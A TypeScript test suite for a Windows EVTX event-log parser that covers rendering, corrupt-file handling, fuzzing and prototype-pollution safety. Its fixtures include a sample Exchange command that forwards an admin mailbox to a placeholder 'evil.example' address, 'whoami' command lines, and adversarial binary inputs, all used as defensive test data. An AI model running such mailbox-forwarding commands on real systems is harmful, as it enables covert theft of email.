import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  ChunkBuilder,
  V,
  buildFile,
  filetime,
  sampleFile,
  systemTemplate,
  systemValues,
  type SubVal,
} from '../../../test/fixtures/evtx/build.js';
import {
  EvtxFormatError,
  openEvtx,
  parseChunk,
  parseEvtxFile,
  parseFileHeader,
  readEvtxRecords,
  recordToJsonLine,
  renderJson,
  renderXml,
  toEventRecord,
  type EvtxRecord,
} from './index.js';

const tmp = mkdtempSync(join(tmpdir(), 'exhunt-evtx-'));
process.on('exit', () => rmSync(tmp, { recursive: true, force: true }));
let fileNo = 0;
function tmpFile(buf: Buffer): string {
  const p = join(tmp, `f${fileNo++}.evtx`);
  writeFileSync(p, buf);
  return p;
}

function chunkOf(file: Buffer, i = 0): Buffer {
  return file.subarray(4096 + i * 65536, 4096 + (i + 1) * 65536);
}

const T0 = Date.UTC(2021, 2, 2, 22, 41, 5, 123);

/** One record exercising every value type in EventData. */
function typesChunk(): Buffer {
  const c = new ChunkBuilder();
  const names = [
    'Str', 'Ansi', 'I8', 'U8', 'I16', 'U16', 'I32', 'U32', 'I64', 'U64', 'Big', 'F32', 'F64', 'BoolT', 'BoolOdd', 'BoolF',
    'Bin', 'Guid', 'SizeT', 'FileTime', 'SysTime', 'Sid', 'Hex32', 'Hex64', 'StrArr', 'U32Arr', 'Null', 'Escape',
  ];
  const data = [
    V.str('héllo wörld'), V.ansi('ansi'), V.i8(-5), V.u8(200), V.i16(-300), V.u16(65000), V.i32(-70000), V.u32(4000000000),
    V.i64(-5000000000n), V.u64(9007199254740991n), V.u64(18446744073709551615n), V.f32(1.5), V.f64(-2.25), V.bool(true),
    V.bool(7), V.bool(false), V.bin('DEADbeef00'), V.guid('{54849625-5478-4994-A5BA-3E3B0328C30D}'), V.sizeT(0x1234n),
    V.filetime(filetime(T0, 4567)), V.systemtime(2021, 3, 2, 22, 41, 5, 123), V.sid('S-1-5-21-1-2-3-500'), V.hex32(0x1a4),
    V.hex64(0x8020000000000000n), V.strArray(['a', 'b c']), V.u32Array([1, 2, 3]), V.null(), V.str('<a & "b">'),
  ];
  c.record(7, filetime(T0), (w) => {
    w.fragmentHeader();
    w.template(
      systemTemplate(names),
      systemValues(
        { provider: 'Prov', guid: '{5bbca4a8-b209-48dc-a8c7-b23d3e5216fb}', eventId: 1, qualifiers: 16384, level: 4, time: filetime(T0, 4567), recordId: 7, channel: 'Application', computer: 'MX1.corp.local', sid: 'S-1-5-18' },
        data,
      ),
    );
    w.eof();
  });
  return c.finish();
}

const TYPES_XML = `<?xml version="1.0" encoding="utf-8"?>
<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">
  <System>
    <Provider Name="Prov" Guid="{5bbca4a8-b209-48dc-a8c7-b23d3e5216fb}">
    </Provider>
    <EventID Qualifiers="16384">1</EventID>
    <Level>4</Level>
    <Task>0</Task>
    <Opcode>0</Opcode>
    <Keywords>0x8020000000000000</Keywords>
    <TimeCreated SystemTime="2021-03-02T22:41:05.123456700Z">
    </TimeCreated>
    <EventRecordID>7</EventRecordID>
    <Execution ProcessID="4" ThreadID="8">
    </Execution>
    <Channel>Application</Channel>
    <Computer>MX1.corp.local</Computer>
    <Security UserID="S-1-5-18">
    </Security>
  </System>
  <EventData>
    <Data Name="Str">héllo wörld</Data>
    <Data Name="Ansi">ansi</Data>
    <Data Name="I8">-5</Data>
    <Data Name="U8">200</Data>
    <Data Name="I16">-300</Data>
    <Data Name="U16">65000</Data>
    <Data Name="I32">-70000</Data>
    <Data Name="U32">4000000000</Data>
    <Data Name="I64">-5000000000</Data>
    <Data Name="U64">9007199254740991</Data>
    <Data Name="Big">18446744073709551615</Data>
    <Data Name="F32">1.5</Data>
    <Data Name="F64">-2.25</Data>
    <Data Name="BoolT">true</Data>
    <Data Name="BoolOdd">true</Data>
    <Data Name="BoolF">false</Data>
    <Data Name="Bin">DEADBEEF00</Data>
    <Data Name="Guid">{54849625-5478-4994-a5ba-3e3b0328c30d}</Data>
    <Data Name="SizeT">4660</Data>
    <Data Name="FileTime">2021-03-02T22:41:05.123456700Z</Data>
    <Data Name="SysTime">2021-03-02T22:41:05.123Z</Data>
    <Data Name="Sid">S-1-5-21-1-2-3-500</Data>
    <Data Name="Hex32">0x1a4</Data>
    <Data Name="Hex64">0x8020000000000000</Data>
    <Data Name="StrArr">a,b c</Data>
    <Data Name="U32Arr">1,2,3</Data>
    <Data Name="Null">
    </Data>
    <Data Name="Escape">&lt;a &amp; "b"&gt;</Data>
  </EventData>
</Event>`;

test('template with every substitution value type renders the golden XML', () => {
  const r = parseChunk(typesChunk(), 0);
  assert.deepEqual(r.errors, []);
  assert.deepEqual(r.warnings, []);
  assert.equal(r.records.length, 1);
  assert.equal(renderXml(r.records[0]!), TYPES_XML);
});

test('System fields, time precision, qualifiers and typed EventData', () => {
  const rec = parseChunk(typesChunk(), 0).records[0]!;
  assert.equal(rec.recordId, 7);
  assert.equal(rec.eventRecordId, 7);
  assert.equal(rec.eventId, 1);
  assert.equal(rec.qualifiers, 16384);
  assert.equal(rec.level, 4);
  assert.equal(rec.providerName, 'Prov');
  assert.equal(rec.providerGuid, '{5bbca4a8-b209-48dc-a8c7-b23d3e5216fb}');
  assert.equal(rec.channel, 'Application');
  assert.equal(rec.computer, 'MX1.corp.local');
  assert.equal(rec.timeCreated, '2021-03-02T22:41:05.1234567Z');
  assert.equal(rec.timeCreatedMs, T0);
  assert.equal(rec.writtenTime, '2021-03-02T22:41:05.1230000Z');
  assert.equal(rec.userSid, 'S-1-5-18');
  assert.equal(rec.processId, 4);
  assert.equal(rec.threadId, 8);
  assert.equal(rec.keywords, '0x8020000000000000');
  assert.equal(rec.data['U32'], 4000000000);
  assert.equal(rec.data['Big'], '18446744073709551615');
  assert.equal(rec.data['BoolT'], true);
  assert.deepEqual(rec.data['StrArr'], ['a', 'b c']);
  assert.equal(rec.data['Null'], null);
  assert.deepEqual(rec.unnamedData, []);
  const json = renderJson(rec) as { Event: { System: Record<string, unknown>; EventData: Record<string, unknown> } };
  assert.deepEqual(json.Event.System['EventID'], { '#attributes': { Qualifiers: 16384 }, '#text': 1 });
  assert.deepEqual(json.Event.System['Security'], { '#attributes': { UserID: 'S-1-5-18' } });
  assert.equal(json.Event.EventData['I64'], -5000000000);
  assert.deepEqual(json.Event.EventData['U32Arr'], [1, 2, 3]);
  assert.equal(json.Event.EventData['Null'], null);
  const line = JSON.parse(recordToJsonLine(rec)) as Record<string, unknown>;
  assert.equal(line['eventId'], 1);
  assert.equal(line['timeCreated'], '2021-03-02T22:41:05.1234567Z');
});

test('template and name back-references across records (per-chunk caches)', async () => {
  const file = sampleFile(40);
  const r = parseChunk(chunkOf(file), 0);
  assert.deepEqual(r.errors, []);
  assert.equal(r.records.length, 40);
  assert.deepEqual(
    r.records.map((x) => x.recordId),
    Array.from({ length: 40 }, (_, i) => i + 1),
  );
  const last = r.records[39]!;
  assert.equal(last.data['CommandLine'], 'cmd.exe /c whoami 40');
  assert.equal(last.timeCreated, new Date(1_600_000_040_000).toISOString().replace('.000Z', '.0001234Z'));
  // Same results through the file API
  const path = tmpFile(file);
  const seen: EvtxRecord[] = [];
  const s = await parseEvtxFile(path, { onRecord: (x) => seen.push(x) });
  assert.equal(s.records, 40);
  assert.equal(seen.length, 40);
  assert.deepEqual(s.errors, []);
  let n = 0;
  for await (const x of readEvtxRecords(path)) n += x.eventId === 4688 ? 1 : 0;
  assert.equal(n, 40);
});

test('unnamed Data elements (MSExchange Management style) and the EventRecord adapter', () => {
  const c = new ChunkBuilder();
  c.record(1, filetime(T0), (w) => {
    w.fragmentHeader();
    w.template(
      systemTemplate([null, null, null]),
      systemValues(
        { provider: 'MSExchange CmdletLogs', eventId: 1, qualifiers: 16384, level: 4, time: filetime(T0), recordId: 3229, channel: 'MSExchange Management', computer: 'WEC' },
        [V.str('Set-Mailbox'), V.str('-Identity "Admin" -ForwardingSmtpAddress "smtp:x@evil.example"'), V.str('')],
      ),
    );
    w.eof();
  });
  const rec = parseChunk(c.finish(), 0).records[0]!;
  assert.deepEqual(rec.unnamedData, ['Set-Mailbox', '-Identity "Admin" -ForwardingSmtpAddress "smtp:x@evil.example"', '']);
  assert.deepEqual(rec.data, {});
  assert.equal(rec.userSid, null);
  const ev = toEventRecord(rec);
  assert.equal(ev.get('eventid'), 1);
  assert.equal(ev.get('Provider_Name'), 'MSExchange CmdletLogs');
  assert.equal(ev.get('channel'), 'MSExchange Management');
  assert.equal(ev.get('Data[0]'), 'Set-Mailbox');
  assert.equal(ev.get('data[1]'), '-Identity "Admin" -ForwardingSmtpAddress "smtp:x@evil.example"');
  assert.equal(ev.get('Data[3]'), undefined);
  assert.equal(ev.get('EventRecordID'), 3229);
  assert.equal(ev.get('UserID'), undefined);
  assert.equal(ev.raw, 'Set-Mailbox -Identity "Admin" -ForwardingSmtpAddress "smtp:x@evil.example" ');
  assert.ok(ev.fieldNames().includes('Data[1]'));
  const json = renderJson(rec) as { Event: { EventData: unknown } };
  assert.deepEqual(json.Event.EventData, { Data: { '#text': ['Set-Mailbox', '-Identity "Admin" -ForwardingSmtpAddress "smtp:x@evil.example"', ''] } });
  // Named fields through the adapter
  const named = toEventRecord(parseChunk(chunkOf(sampleFile(1)), 0).records[0]!);
  assert.equal(named.get('commandline'), 'cmd.exe /c whoami 1');
  assert.equal(named.get('EventData.User'), 'SYSTEM');
  assert.equal(named.get('UserID'), 'S-1-5-18');
  assert.equal(named.raw, 'cmd.exe /c whoami 1 SYSTEM 1');
  assert.equal(named.get('ProcessID'), 4); // no EventData ProcessId here: the System value
  assert.equal(named.get('Execution_ThreadID'), 8);
  // An EventData field named like a System field (Sysmon's ProcessId) wins over Execution/@ProcessID.
  const c2 = new ChunkBuilder();
  c2.record(1, filetime(T0), (w) => {
    w.fragmentHeader();
    w.template(
      systemTemplate(['ProcessId', 'Image']),
      systemValues({ provider: 'Microsoft-Windows-Sysmon', eventId: 1, level: 4, time: filetime(T0), recordId: 1, channel: 'Microsoft-Windows-Sysmon/Operational', computer: 'H' }, [V.str('9112'), V.str('C:\\x.exe')]),
    );
    w.eof();
  });
  const sys = toEventRecord(parseChunk(c2.finish(), 0).records[0]!);
  assert.equal(sys.get('ProcessId'), '9112');
  assert.equal(sys.get('Execution_ProcessID'), 4);
  assert.equal(sys.get('Level'), 4);
});

test('nested BinXml (0x21), entity and char refs, CDATA, processing instructions, UserData', () => {
  const c = new ChunkBuilder();
  c.record(1, filetime(T0), (w) => {
    w.fragmentHeader();
    // Outer template: <Event><UserData>%0</UserData><Note>x &amp; y&#65;<![CDATA[<raw>]]></Note><?pi-target some data?></Event>
    const inner = nestedValue(c);
    w.template(
      (t) => {
        t.fragmentHeader();
        t.open('Event', false, true).closeStart();
        t.open('UserData', false, true).closeStart().sub(0, 0x21).end();
        t.open('Note', false, true).closeStart().text('x ').entityRef('amp').text(' y').charRef(65).cdata('<raw>').end();
        t.pi('pi-target', 'some data');
        t.end();
        t.eof();
      },
      [inner],
    );
    w.eof();
  });
  const r = parseChunk(c.finish(), 0);
  assert.deepEqual(r.errors, []);
  const rec = r.records[0]!;
  assert.equal(
    renderXml(rec),
    `<?xml version="1.0" encoding="utf-8"?>
<Event>
  <UserData>
    <LogFileCleared xmlns="http://manifests.microsoft.com/win/2004/08/windows/eventlog">
      <SubjectUserName>admin</SubjectUserName>
      <SubjectDomainName>CORP</SubjectDomainName>
    </LogFileCleared>
  </UserData>
  <Note>x &amp; yA&lt;raw&gt;</Note>
  <?pi-target some data?>
</Event>`,
  );
  assert.equal(rec.data['SubjectUserName'], 'admin');
  assert.equal(rec.data['SubjectDomainName'], 'CORP');
  assert.deepEqual(rec.values, ['http://manifests.microsoft.com/win/2004/08/windows/eventlog', 'admin', 'CORP'].slice(1));
});

/** A nested BinXml value: a fragment of direct (non-template) elements with inline names. */
function nestedValue(_c: ChunkBuilder): SubVal {
  return V.binxml((w) => {
    w.fragmentHeader();
    w.open('LogFileCleared', true, false).attr('xmlns').text('http://manifests.microsoft.com/win/2004/08/windows/eventlog').closeStart();
    w.open('SubjectUserName', false, false).closeStart().text('admin').end();
    w.open('SubjectDomainName', false, false).closeStart().text('CORP').end();
    w.end();
    w.eof();
  });
}

test('dirty files: bad chunk magic, zero chunk, bad record, bad CRC, count below actual, dirty flag', async () => {
  const good = chunkOf(sampleFile(5));
  const badMagic = Buffer.from(good);
  badMagic.write('XXXXXXXX', 0, 'latin1');
  const zero = Buffer.alloc(65536);
  const badCrc = Buffer.from(good);
  badCrc.writeUInt32LE(0xdeadbeef, 124); // header CRC
  badCrc.writeUInt32LE(0xdeadbeef, 52); // data CRC
  const badRecord = Buffer.from(good);
  // Corrupt the 3rd record's BinXml (first token after the record header).
  let off = 512;
  for (let i = 0; i < 2; i++) off += badRecord.readUInt32LE(off + 4);
  badRecord[off + 24] = 0xee;
  const file = buildFile([good, badMagic, zero, badCrc, badRecord, good], { chunkCount: 4, flags: 1 });
  const path = tmpFile(file);
  const f = await openEvtx(path);
  assert.equal(f.header.dirty, true);
  assert.equal(f.header.chunkCount, 4);
  const ids: string[] = [];
  for await (const r of f.records()) ids.push(`${r.chunkIndex}:${r.recordId}`);
  await f.close();
  assert.equal(ids.length, 5 + 5 + 4 + 5);
  assert.ok(!ids.some((x) => x.startsWith('1:') || x.startsWith('2:')));
  assert.ok(ids.includes('4:2') && !ids.includes('4:3') && ids.includes('4:4'));
  assert.equal(f.errors.length, 2);
  assert.deepEqual(
    f.errors.map((e) => [e.kind, e.chunk, e.record ?? null]),
    [
      ['chunk', 1, null],
      ['record', 4, 3],
    ],
  );
  assert.equal(f.errors[0]!.offset, 4096 + 65536);
  assert.match(f.errors[0]!.reason, /bad chunk magic/);
  assert.match(f.errors[1]!.reason, /invalid BinXml token 0xee/);
  const reasons = f.warnings.map((w) => w.reason).join('\n');
  assert.match(reasons, /dirty/);
  assert.match(reasons, /chunk header and data CRC32 mismatch/);
  assert.match(reasons, /beyond the header's chunk count/);
  // Opting into checksum validation skips the chunk instead.
  // (the corrupted-record chunk's data CRC no longer matches either)
  const s = await parseEvtxFile(path, { skipBadChecksums: true });
  assert.equal(s.records, 10);
  assert.equal(s.errors.length, 3);
});

test('truncated file and truncated record', async () => {
  const file = sampleFile(5);
  const s = await parseEvtxFile(tmpFile(file.subarray(0, 4096 + 30000)));
  assert.equal(s.records, 0);
  assert.equal(s.errors.length, 1);
  assert.match(s.errors[0]!.reason, /file truncated/);
  // A record whose size runs past the chunk end.
  const ch = Buffer.from(chunkOf(file));
  let off = 512;
  off += ch.readUInt32LE(off + 4);
  ch.writeUInt32LE(70000, off + 4);
  const r = parseChunk(ch, 0);
  assert.equal(r.records.length, 1);
  assert.equal(r.errors.length, 1);
  assert.match(r.errors[0]!.reason, /bad record size/);
  // A chunk shorter than 64 KiB passed directly.
  assert.match(parseChunk(ch.subarray(0, 1000), 3).errors[0]!.reason, /incomplete chunk/);
});

test('not an EVTX file', async () => {
  assert.throws(() => parseFileHeader(Buffer.from('hello')), EvtxFormatError);
  await assert.rejects(openEvtx(tmpFile(Buffer.alloc(5000, 0x41))), EvtxFormatError);
  const h = parseFileHeader(sampleFile(1));
  assert.equal(h.majorVersion, 3);
  assert.equal(h.checksumOk, true);
});

test('adversarial BinXml: cyclic templates, deep nesting, huge counts', () => {
  // Template whose body instantiates itself.
  const c = new ChunkBuilder();
  c.record(1, filetime(T0), (w) => {
    w.fragmentHeader();
    const selfOff = w.pos + 1 + 1 + 4 + 4;
    w.template((t) => {
      t.fragmentHeader();
      t.open('E', false, true).closeStart();
      t.template(selfOff, []);
      t.end().eof();
    }, []);
    w.eof();
  });
  // Deeply nested elements (beyond the depth limit).
  c.record(2, filetime(T0), (w) => {
    w.fragmentHeader();
    for (let i = 0; i < 200; i++) w.open('E', false, false).closeStart();
    for (let i = 0; i < 200; i++) w.end();
    w.eof();
  });
  // A template instance claiming 2^31 substitutions.
  c.record(3, filetime(T0), (w) => {
    w.fragmentHeader();
    w.template((t) => t.fragmentHeader().open('E', false, true).closeEmpty().eof(), []);
    c.buf.writeUInt32LE(0x80000000, c.pos - 4);
    w.eof();
  });
  c.record(4, filetime(T0), (w) => w.fragmentHeader().open('Ok', false, false).closeEmpty().eof());
  const r = parseChunk(c.finish(), 0);
  assert.deepEqual(
    r.errors.map((e) => [e.record, /cyclic|too deep|substitution count/.test(e.reason)]),
    [
      [1, true],
      [2, true],
      [3, true],
    ],
  );
  assert.equal(r.records.length, 1);
  assert.equal(r.records[0]!.root?.name, 'Ok');
});

/** Deterministic PRNG for the fuzz tests. */
function rng(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = s;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

test('fuzz: random byte flips and truncations never throw or hang', () => {
  const base = Buffer.concat([chunkOf(sampleFile(60)), Buffer.alloc(0)]);
  const types = typesChunk();
  const rand = rng(42);
  const t0 = Date.now();
  let records = 0;
  for (let iter = 0; iter < 600; iter++) {
    const src = iter % 2 ? base : types;
    const b = Buffer.from(src);
    const flips = 1 + Math.floor(rand() * 20);
    for (let i = 0; i < flips; i++) {
      // Mostly hit the used part of the chunk.
      const pos = rand() < 0.9 ? 512 + Math.floor(rand() * 6000) : Math.floor(rand() * 65536);
      b[pos] = Math.floor(rand() * 256);
    }
    const cut = rand() < 0.2 ? Math.floor(rand() * 65536) : 65536;
    const r = parseChunk(b.subarray(0, cut), iter);
    records += r.records.length;
    for (const rec of r.records) {
      renderXml(rec);
      JSON.stringify(renderJson(rec));
      void toEventRecord(rec).raw;
    }
  }
  assert.ok(records > 0);
  assert.ok(Date.now() - t0 < 30_000, 'fuzz run took too long');
});

test('fuzz: mutated files through the file API', async () => {
  const rand = rng(7);
  const src = buildFile([chunkOf(sampleFile(30)), typesChunk()]);
  for (let iter = 0; iter < 40; iter++) {
    const b = Buffer.from(src);
    for (let i = 0; i < 50; i++) b[Math.floor(rand() * b.length)] = Math.floor(rand() * 256);
    b.write('ElfFile\0', 0, 'latin1');
    const cut = rand() < 0.3 ? 4096 + Math.floor(rand() * (b.length - 4096)) : b.length;
    const s = await parseEvtxFile(tmpFile(b.subarray(0, cut)));
    assert.ok(s.records >= 0);
  }
});

test('worker-thread parallel mode gives the same records, in order, as one thread', async () => {
  const chunks: Buffer[] = [];
  for (let i = 0; i < 9; i++) chunks.push(i === 4 ? Buffer.alloc(65536) : i === 6 ? Buffer.alloc(65536, 0x41) : chunkOf(sampleFile(20 + i)));
  chunks.push(typesChunk());
  const path = tmpFile(buildFile(chunks));
  const one: string[] = [];
  const s1 = await parseEvtxFile(path, { onRecord: (r) => one.push(recordToJsonLine(r)) });
  const par: string[] = [];
  const s2 = await parseEvtxFile(path, { workers: 3, onRecord: (r) => par.push(recordToJsonLine(r)) });
  assert.equal(s1.records, 20 + 21 + 22 + 23 + 25 + 27 + 28 + 1);
  assert.deepEqual(par, one);
  assert.equal(s2.records, s1.records);
  assert.deepEqual(s2.errors, s1.errors);
  assert.equal(s2.errors.length, 1);
  const { parseEvtxFileParallel } = await import('./parallel.js');
  let text = '';
  const s3 = await parseEvtxFileParallel(path, { workers: 2, render: 'xml', onText: (t) => (text += t) });
  assert.equal(s3.records, s1.records);
  assert.equal((text.match(/<\?xml /g) ?? []).length, s1.records);
});

test('random and zero-filled files: errors, no crash; memory stays bounded on a large file', async () => {
  const rand = rng(99);
  const random = Buffer.alloc(4096 + 20 * 65536);
  for (let i = 0; i < random.length; i++) random[i] = Math.floor(rand() * 256);
  const hdr = sampleFile(1).subarray(0, 4096);
  hdr.copy(random, 0);
  const s1 = await parseEvtxFile(tmpFile(random));
  assert.equal(s1.records, 0);
  assert.equal(s1.errors.length, 20);
  // Random data with chunk signatures and plausible free-space offsets.
  for (let c = 0; c < 20; c++) {
    random.write('ElfChnk\0', 4096 + c * 65536, 'latin1');
    random.writeUInt32LE(512 + Math.floor(rand() * 65000), 4096 + c * 65536 + 48);
    random.writeUInt32LE(0x2a2a, 4096 + c * 65536 + 512);
  }
  const s2 = await parseEvtxFile(tmpFile(random));
  assert.ok(s2.errors.length >= 1);
  const zero = Buffer.concat([hdr, Buffer.alloc(10 * 65536)]);
  const s3 = await parseEvtxFile(tmpFile(zero));
  assert.equal(s3.records, 0);
  assert.equal(s3.errors.length, 0);
  assert.equal(s3.chunks, 0);
  // ~26 MB file: heap growth stays far below the file size.
  const chunk = chunkOf(sampleFile(120));
  const big = tmpFile(buildFile(Array.from({ length: 400 }, () => chunk), { chunkCount: 400 }));
  global.gc?.();
  const base = process.memoryUsage().heapUsed;
  let peak = 0;
  const s4 = await parseEvtxFile(big, {
    onChunkDone: () => {
      peak = Math.max(peak, process.memoryUsage().heapUsed - base);
    },
  });
  assert.equal(s4.records, 400 * 120);
  assert.ok(peak < 64 * 1024 * 1024, `heap grew by ${peak} bytes`);
});

test('field names from the file cannot touch object prototypes', () => {
  const c = new ChunkBuilder();
  c.record(1, filetime(T0), (w) => {
    w.fragmentHeader();
    w.template(
      systemTemplate(['__proto__', 'constructor', 'toString', '__proto__']),
      systemValues(
        { provider: 'P', eventId: 1, level: 4, time: filetime(T0), recordId: 1, channel: 'C', computer: 'H' },
        [V.str('polluted'), V.str('c'), V.str('t'), V.str('again')],
      ),
    );
    w.eof();
  });
  const rec = parseChunk(c.finish(), 0).records[0]!;
  assert.equal(Object.getPrototypeOf(rec.data), Object.prototype);
  assert.equal(Object.getOwnPropertyDescriptor(rec.data, '__proto__')?.value, 'polluted');
  assert.equal(rec.data['constructor'], 'c');
  assert.equal(Object.getOwnPropertyDescriptor(rec.data, '__proto___1')?.value, 'again');
  const json = renderJson(rec) as { Event: { EventData: Record<string, unknown> } };
  assert.equal(Object.getPrototypeOf(json.Event.EventData), Object.prototype);
  assert.equal(Object.getOwnPropertyDescriptor(json.Event.EventData, '__proto__')?.value, 'polluted');
  assert.equal(({} as Record<string, unknown>)['polluted'], undefined);
  assert.equal(toEventRecord(rec).get('__PROTO__'), 'polluted');
  assert.match(recordToJsonLine(rec), /"__proto__":"polluted"/);
});
